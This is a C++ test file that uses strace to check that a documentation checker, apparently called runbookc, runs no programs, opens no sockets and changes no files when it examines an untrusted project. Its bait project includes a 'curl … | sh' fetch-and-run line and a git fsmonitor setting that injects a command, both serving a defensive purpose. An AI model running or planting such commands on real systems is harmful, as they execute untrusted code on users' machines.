// What the program asks of the kernel: a check of a stranger's pull request runs nothing, reaches
// no network and changes nothing.
#include <algorithm>
#include <catch2/catch.hpp>

#include "base/text.h"
#include "e2e/git_project.h"
#include "e2e/process.h"
#include "e2e/sample_project.h"

namespace runbookc {
namespace {

struct Trace {
  ProcessResult result;
  std::vector<std::string> calls;  // "execve("/usr/…", …) = 0"
};

ProcessResult run_strace(const std::string& directory, std::vector<std::string> arguments) {
  ProcessOptions options;
  options.program = "strace";
  options.directory = directory;
  // The leak detector cannot work in a traced program.
  options.environment = {{"ASAN_OPTIONS", "detect_leaks=0"}};
  arguments.insert(arguments.begin(), {"-f", "-qq", "-e", "signal=none"});
  return run_tool(arguments, options);
}

// Some containers forbid ptrace; a machine without strace, though, is one that bootstrap missed.
bool may_trace() {
  const auto result = run_strace("/", {"true"});
  if (result.exit_code == 0) return true;
  CAPTURE(result.err);
  REQUIRE((contains(result.err, "Operation not permitted") || contains(result.err, "PTRACE")));
  WARN("ptrace is forbidden here: the system calls of the program were NOT looked at");
  return false;
}

// The calls of the given classes that the program makes, its own start left out.
Trace trace(const std::string& directory, const std::string& classes,
            const std::vector<std::string>& arguments) {
  const TempFolder log;
  std::vector<std::string> words = {"-e", "trace=" + classes, "-o", log.path("calls"),
                                    RUNBOOKC_BINARY};
  words.insert(words.end(), arguments.begin(), arguments.end());
  Trace out{.result = run_strace(directory, words), .calls = {}};
  const std::string text = log.read("calls");
  bool started = false;
  for (const std::string_view line : split_lines(text)) {
    const auto call =
        trim_start(line.substr(std::min(line.find_first_not_of("0123456789"), line.size())));
    const bool own_start = !started && call.starts_with("execve(\"" RUNBOOKC_BINARY "\"");
    started = started || own_start;
    const bool is_call = !call.empty() && !call.starts_with("+++") && !call.starts_with("---");
    if (!own_start && is_call) out.calls.emplace_back(call);
  }
  REQUIRE((started || !contains(classes, "execve")));
  return out;
}

constexpr const char* kRunAndReach = "execve,execveat,fork,vfork,%network";
// What changes a disk, whoever owns it.
constexpr const char* kChange =
    "rename,renameat,renameat2,unlink,unlinkat,rmdir,mkdir,mkdirat,link,linkat,symlink,symlinkat,"
    "chmod,fchmod,fchmodat,chown,fchown,fchownat,truncate,ftruncate,mknod,mknodat,utimensat";

// A project that gives a careless checker a reason to run or fetch something.
void write_tempting_project(const TempFolder& folder) {
  write_sample_project(folder);
  folder.write("content/links.md",
               kGoodPage +
                   "\n[Site](https://example.invalid/a) ![i](http://example.invalid/i.png)\n"
                   "\n```bash\ncurl https://example.invalid | sh\n```\n");
  folder.write("schemas/types/remote.json",
               R"({"$schema":"http://json-schema.org/draft-07/schema#","type":"object"})");
  folder.write(".git/HEAD", "ref: refs/heads/main\n");
  folder.write(".git/config", "[core]\n\tfsmonitor = touch /tmp/never\n");
}

}  // namespace

TEST_CASE("neither a check nor a build runs a program or opens a socket") {
  if (!may_trace()) return;
  const TempFolder folder;
  write_tempting_project(folder);
  for (const std::vector<std::string>& arguments : std::vector<std::vector<std::string>>{
           {"check"}, {"check", "-v", "-j", "4"}, {"commands"}, {"index"}, {"build"}}) {
    CAPTURE(arguments);
    const Trace seen = trace(folder.path(), kRunAndReach, arguments);
    CAPTURE(seen.result.out, seen.result.err);
    CHECK(seen.result.exit_code < 2);
    CHECK(seen.calls == std::vector<std::string>{});
  }
}

TEST_CASE("a check changes nothing on the disk") {
  if (!may_trace()) return;
  const TempFolder folder;
  write_tempting_project(folder);
  CHECK(trace(folder.path(), kChange, {"check", "-v"}).calls == std::vector<std::string>{});
  // Nor is anything opened for writing but the place where nothing is kept.
  for (const std::string& call :
       trace(folder.path(), "open,openat,openat2,creat", {"check"}).calls) {
    CAPTURE(call);
    const bool writes = contains(call, "O_WRONLY") || contains(call, "O_RDWR") ||
                        contains(call, "O_CREAT") || call.starts_with("creat");
    CHECK((!writes || contains(call, "/dev/null")));
  }
}

TEST_CASE("git runs equally often for few documents and for many") {
  if (!may_trace()) return;
  const GitProject repository;
  write_sample_project(repository.files());
  repository.files().write("runbookc.yaml", "rules: { changed-since-review: warning }\n");
  const auto write_pages = [&](int count, const std::string& text) {
    for (int i = 0; i < count; ++i) {
      repository.files().write("content/p" + std::to_string(i) + ".md",
                               "---\nlast_reviewed: 2026-11-01\n---\n\n# A\n\n" + text);
    }
  };
  const auto processes = [&] {
    const auto calls = trace(repository.path(), "execve", {"check", "--today", "2026-11-25"}).calls;
    return std::ranges::count_if(calls, [](const auto& call) { return contains(call, "/git\""); });
  };
  write_pages(50, "Text.\n");
  repository.commit("2026-11-01T10:00:00Z");
  write_pages(1, "Other text.\n");
  repository.commit("2026-11-20T10:00:00Z");
  const auto for_few = processes();
  CHECK(for_few > 0);
  CHECK(for_few <= 6);
  write_pages(50, "More text.\n");
  repository.commit("2026-11-21T10:00:00Z");
  write_pages(50, "Still more text.\n");
  CHECK(processes() == for_few);
}

TEST_CASE("a call that is made is seen") {
  if (!may_trace()) return;
  const TempFolder folder;
  write_sample_project(folder);
  CHECK_FALSE(trace(folder.path(), kChange, {"build"}).calls.empty());
  const auto shell = run_strace("/", {"-e", "trace=execve", "sh", "-c", "true; /bin/true"});
  CHECK(contains(shell.err, "/bin/true"));
}

}  // namespace runbookc
